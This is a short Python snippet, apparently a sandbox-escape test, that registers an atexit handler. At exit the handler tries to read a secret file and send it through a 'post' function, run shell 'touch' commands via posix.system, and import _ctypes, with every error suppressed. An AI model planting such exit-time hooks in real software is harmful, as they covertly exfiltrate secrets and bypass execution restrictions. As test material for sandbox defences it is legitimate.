import atexit, sys
def last(real=open, tell=post, secret=SECRET, where=DIR):
    for f in (lambda: tell(real(secret).read()), lambda: __import__("posix").system("touch " + where + "/atexit"),
              lambda: __import__("_ctypes"), lambda: sys.modules["posix"].system("touch " + where + "/atexit")):
        try: f()
        except BaseException: pass
atexit.register(last)
